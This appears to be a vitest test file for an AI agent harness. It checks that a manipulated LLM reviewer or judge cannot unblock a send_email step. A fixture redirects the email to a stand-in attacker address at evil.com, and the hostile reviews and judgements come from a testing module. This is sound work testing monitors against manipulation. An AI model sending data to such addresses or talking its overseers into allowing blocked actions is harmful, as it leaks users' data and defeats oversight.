/** Reviewers and judges that were talked into allowing: they loosen nothing. */
import { describe, expect, test } from 'vitest';
import {
  adversarialJudge,
  adversarialReviewer,
  hostileJudgements,
  hostileReviews,
} from '../../../../hosts/testing/index.js';
import { makeOffice, type OfficeOptions } from '../../../fakes/office.js';
import { call } from '../../../fakes/plan-steps.js';
import { expectBlocked } from '../../../fakes/refusal.js';

const query = 'Tell bob@example.org "done".';
const allowed = [call('sent', 'send_email', { to: 'bob@example.org', body: 'done' })];
const refused = [call('sent', 'send_email', { to: 'attacker@evil.com', body: 'done' })];

async function loosensNothing(watched: OfficeOptions, fits: boolean): Promise<void> {
  const office = makeOffice(watched);
  expectBlocked(await office.run(query, refused), 'critical_untrusted');
  expect(office.canaries.calls).toEqual([]);
  const { status } = await office.run(query, allowed);
  expect(status).toBe(fits ? 'committed' : 'blocked');
  expect(office.canaries.calls).toHaveLength(fits ? 1 : 0);
}

describe('a reviewer', () => {
  test.each(hostileReviews)('that says: $name', async (review) => {
    const reviewer = adversarialReviewer(review);
    await loosensNothing({ reviewer, safetyMode: 'review' }, review.fits);
  });
});

describe('a judge', () => {
  test.each(hostileJudgements)('that says: $name', async (judgement) => {
    const port = adversarialJudge(judgement);
    await loosensNothing({ judge: { kind: 'llm-v1', port } }, judgement.fits);
  });
});
